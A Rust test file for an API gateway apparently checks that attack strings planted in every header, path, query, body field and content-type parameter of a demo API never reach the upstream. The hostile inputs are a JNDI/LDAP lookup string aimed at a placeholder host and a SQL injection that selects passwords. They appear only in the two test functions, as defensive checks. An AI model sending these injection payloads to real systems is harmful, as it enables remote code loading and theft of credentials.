//! One attack in each place of the demo's requests that travels to an upstream: none may arrive.
//! Every place is first tried with a plain text, which tells the places that are carried from those that are not. The
//! contracts are switched off for that, so that inspection alone stands between the attack and the upstream; the second
//! test does the same with the demo as it ships.
//! Start reading at `Place`, then at the tests.

use std::collections::BTreeMap;

use config::api::State;
use config::{Compiled, Files, Options};
use contract::{Operation, TemplateSegment};
use demo::{Call, Listener};
use model::Timestamp;
use model::canonical::{encode_component, encode_segment};
use serde_json::{Value, json};
use testkit::{Gate, Key, Received, RecordingUpstream, Server};

use crate::{call, serve};

const CATALOGUE: &str = "apis/field-service.yaml";
/// Fields of the caller, declared or not. The last ones must not travel at all.
const HEADERS: [&str; 20] = [
    "user-agent",
    "accept",
    "accept-language",
    "prefer",
    "traceparent",
    "idempotency-key",
    "if-match",
    "if-none-match",
    "x-probe-user",
    "if-modified-since",
    "if-unmodified-since",
    "if-range",
    "range",
    "referer",
    "origin",
    "from",
    "cookie",
    "tracestate",
    "content-language",
    "x-undeclared",
];
/// Where the integration of this test names its user: the text travels in `Portcullis-Identity`.
const USER: &str = "x-probe-user";

/// Where a text is planted.
#[derive(Clone, Debug)]
enum Place {
    Path(String),
    Query(String),
    Header(String),
    /// JSON pointer; `*` is an item or an undeclared key.
    Body(String),
    /// The name of an undeclared key beside the fields at this pointer.
    Key(String),
    /// A parameter of the content type.
    ContentType,
}

struct Target<'c> {
    listener: Listener,
    base: String,
    operation: &'c Operation,
}

/// Every operation of the demo, at one listener that exposes it.
fn surface(compiled: &Compiled) -> Vec<Target<'_>> {
    let mut all = Vec::new();
    let live = |state| matches!(state, State::Active | State::Deprecated);
    for version in compiled.versions.iter().filter(|v| live(v.state)) {
        let operations = &version.contract.as_ref().unwrap().operations;
        for (operation, plan) in operations.iter().zip(&version.operations) {
            let mut doors = [Listener::Local, Listener::Internal].into_iter();
            let Some(listener) =
                doors.find(|listener| plan.listeners.iter().any(|l| &**l == listener.name()))
            else {
                continue;
            };
            let base = version.base_path.to_string();
            all.push(Target {
                listener,
                base,
                operation,
            });
        }
    }
    assert!(all.len() > 60, "the demo exposes {} operations", all.len());
    all
}

/// An integration that may do everything and send everything.
fn probe(compiled: &Compiled) -> String {
    let mut text = format!(
        "owner: tests@brightline.example\npurpose: Plants attacks\nreview_by: 2027-03-31\n\
         credentials: {{ api_key: {{ max_age: 90d, overlap: 24h, user_header: {USER} }} }}\ngrants:\n"
    );
    for version in &compiled.versions {
        let operations = version
            .contract
            .iter()
            .flat_map(|contract| &contract.operations);
        let exposed = operations
            .zip(&version.operations)
            .filter(|(_, plan)| !plan.listeners.is_empty());
        for (operation, _) in exposed {
            let root = operation.request_shape.root();
            let writes: Vec<String> = root.map_or(Vec::new(), |root| {
                root.fields
                    .keys()
                    .map(|name| format!("\"{name}\""))
                    .collect()
            });
            text += &format!(
                "  - api: {}\n    operations: [{}]\n    writes: [{}]\n",
                version.name,
                operation.id,
                writes.join(", ")
            );
        }
    }
    text
}

/// The places of one operation that could carry a text.
fn places(operation: &Operation) -> Vec<Place> {
    let mut all: Vec<Place> = HEADERS
        .iter()
        .map(|name| Place::Header((*name).to_owned()))
        .collect();
    for parameter in &operation.parameters {
        let name = parameter.name.to_string();
        match parameter.place {
            contract::Place::Path => all.push(Place::Path(name)),
            contract::Place::Query => all.push(Place::Query(name)),
            contract::Place::Header if HEADERS.contains(&&*name.to_ascii_lowercase()) => {}
            contract::Place::Header => all.push(Place::Header(name)),
            contract::Place::Cookie => all.push(Place::Header("cookie".to_owned())),
        }
    }
    all.push(Place::Query("undeclared".to_owned()));
    let body = contract::fields(operation)
        .into_iter()
        .filter(|field| field.place == "body");
    let pointers: Vec<String> = body.map(|field| field.pointer).collect();
    if operation.body.is_some() {
        all.push(Place::ContentType);
        all.push(Place::Key(String::new()));
        let parents = pointers
            .iter()
            .filter_map(|pointer| Some(pointer.rsplit_once('/')?.0));
        all.extend(
            parents
                .filter(|parent| !parent.is_empty())
                .map(|parent| Place::Key(parent.to_owned())),
        );
    }
    all.extend(pointers.into_iter().map(Place::Body));
    all
}

/// The call with this text in this place.
fn planted(target: &Target<'_>, place: &Place, text: &str) -> Call {
    let operation = target.operation;
    let mut path = target.base.clone();
    for segment in &operation.segments {
        path.push('/');
        match segment {
            TemplateSegment::Static(fixed) => path.push_str(fixed),
            TemplateSegment::Parameter(name) => match place {
                Place::Path(wanted) if **name == **wanted => encode_segment(text, &mut path),
                _ => path.push_str("4711"),
            },
            TemplateSegment::Mixed { .. } => panic!("the demo has no mixed segments"),
        }
    }
    if let Place::Query(name) = place {
        path.push('?');
        path.push_str(name);
        path.push('=');
        encode_component(text, &mut path);
    }
    let method = operation.method.as_str();
    let mut call = call(method, &path).at(target.listener);
    if let Some(plan) = &operation.body {
        let kind = &plan.contents[0].content_type;
        let body = match place {
            Place::Body(pointer) => nested(pointer, json!(text)),
            Place::Key(pointer) => nested(pointer, json!({ text: "x" })),
            _ => json!({}),
        };
        call.body = body.to_string().into_bytes();
        call = match place {
            Place::ContentType => call.with("Content-Type", &format!("{kind}; x=\"{text}\"")),
            _ => call.with("Content-Type", kind),
        };
    }
    match place {
        Place::Header(name) => call.with(name, text),
        _ => call,
    }
}

/// A value at the end of a pointer.
fn nested(pointer: &str, value: Value) -> Value {
    let mut steps: Vec<&str> = pointer.split('/').skip(1).collect();
    steps.reverse();
    steps.into_iter().fold(value, |value, step| match step {
        "*" => json!([value]),
        name => json!({ name.replace("~1", "/").replace("~0", "~"): value }),
    })
}

/// A plain text for the place that its standard admits there.
fn plain(place: &Place, mark: &str) -> String {
    match place {
        Place::Header(name) => match name.as_str() {
            "accept" => format!("application/{mark}"),
            "accept-language" => format!("en-{mark}"),
            "prefer" => format!("return={mark}"),
            _ => mark.to_owned(),
        },
        _ => mark.to_owned(),
    }
}

/// Whether the text came anywhere in what the upstream got, the signed identity included.
fn holds(received: &Received, mark: &str) -> bool {
    let has = |bytes: &[u8]| {
        bytes
            .windows(mark.len())
            .any(|window| window == mark.as_bytes())
    };
    let identity = received.header("portcullis-identity").unwrap_or_default();
    let claims = identity.split('.').filter_map(crypto::text::unbase64url);
    has(&received.bytes) || claims.into_iter().any(|claims| has(&claims))
}

struct Stage {
    server: Server,
    upstream: RecordingUpstream,
    compiled: Compiled,
    key: Key,
}

fn stage(requests: &str) -> Stage {
    let upstream = RecordingUpstream::always("{}");
    let gate = Gate::demo(upstream.address()).all_plain().unlimited();
    // The objects are others' subject: no look-up stands between.
    let text = gate.text(CATALOGUE);
    gate.write(CATALOGUE, without_objects(&text, requests));
    gate.remove("policies/cancelled.cedar");
    for name in demo::INTEGRATIONS {
        gate.remove(&format!("integrations/{name}.yaml"));
    }
    gate.remove("roles/partner.yaml");
    let mut files = Files::new();
    for (path, _) in demo::GATE_FILES
        .iter()
        .filter(|(path, _)| gate.dir().join(path).exists())
    {
        files.insert(*path, gate.text(path).into_bytes());
    }
    let now = Timestamp::parse("2026-11-23").unwrap();
    let (compiled, _) =
        config::compile(&files, Options { now }).unwrap_or_else(|mistakes| panic!("{mistakes:?}"));
    gate.write("integrations/probe.yaml", probe(&compiled));
    let server = serve(gate);
    let key = server.quick_key("probe", &[]);
    Stage {
        server,
        upstream,
        compiled,
        key,
    }
}

/// The catalogue without its objects, and with this mode for the contracts.
fn without_objects(text: &str, requests: &str) -> String {
    let mut out = String::new();
    let mut is_inside = false;
    for line in text.lines() {
        let depth = line.len() - line.trim_start().len();
        is_inside = match line.trim_end() {
            "    objects:" => true,
            _ => is_inside && (depth > 4 || line.trim().is_empty()),
        };
        if is_inside || line.trim_start().starts_with("checks:") {
            continue;
        }
        out.push_str(line);
        out.push('\n');
        if line.starts_with("    base_path:") && !line.contains("v0") {
            out += &format!(
                "    checks: {{ request: {requests}, response: off, inspect: enforce }}\n"
            );
        }
    }
    out
}

/// Plants the attack everywhere; says where a plain text arrived, by kind of place.
fn tried(stage: &Stage, attack: impl Fn(&str) -> String) -> BTreeMap<String, usize> {
    let mut arrived: BTreeMap<String, usize> = BTreeMap::new();
    let mut wrong = Vec::new();
    let mut number = 0;
    for target in surface(&stage.compiled) {
        for place in places(target.operation) {
            number += 1;
            let mark = format!("m{number:05}x");
            let send = |text: &str| {
                let call = planted(&target, &place, text);
                let address = stage.server.address(target.listener.name());
                testkit::wire::send(address, &call, Some(&stage.key.text))
            };
            stage.upstream.forget();
            send(&plain(&place, &mark));
            if stage
                .upstream
                .requests()
                .iter()
                .any(|got| holds(got, &mark))
            {
                let kind = match &place {
                    Place::Header(name) => name.clone(),
                    other => format!("{other:?}").split('(').next().unwrap().to_owned(),
                };
                *arrived.entry(kind).or_default() += 1;
            }
            stage.upstream.forget();
            let response = send(&attack(&mark));
            if stage
                .upstream
                .requests()
                .iter()
                .any(|got| holds(got, &mark))
            {
                wrong.push(format!(
                    "{} {place:?}: {}",
                    target.operation.id, response.status
                ));
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} arrived:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    arrived
}

#[test]
fn no_attack_arrives_from_any_place_that_is_carried() {
    let stage = stage("off");
    let arrived = tried(&stage, |mark| format!("${{jndi:ldap://{mark}.example/x}}"));
    // Otherwise nothing was tried.
    for kind in [
        "user-agent",
        "accept-language",
        "prefer",
        USER,
        "Path",
        "Query",
        "Body",
    ] {
        assert!(
            arrived.get(kind).is_some_and(|count| *count > 20),
            "{kind}: {arrived:?}"
        );
    }
    for kind in [
        "accept",
        "x-undeclared",
        "cookie",
        "referer",
        "if-match",
        "if-none-match",
        "traceparent",
        "ContentType",
    ] {
        assert!(!arrived.contains_key(kind), "{kind}: {arrived:?}");
    }
}

#[test]
fn no_attack_arrives_at_the_demo_as_it_ships() {
    let stage = stage("enforce");
    let arrived = tried(&stage, |mark| {
        format!("{mark}' union select password from users--")
    });
    assert!(
        arrived.get("user-agent").is_some_and(|count| *count > 20),
        "{arrived:?}"
    );
}
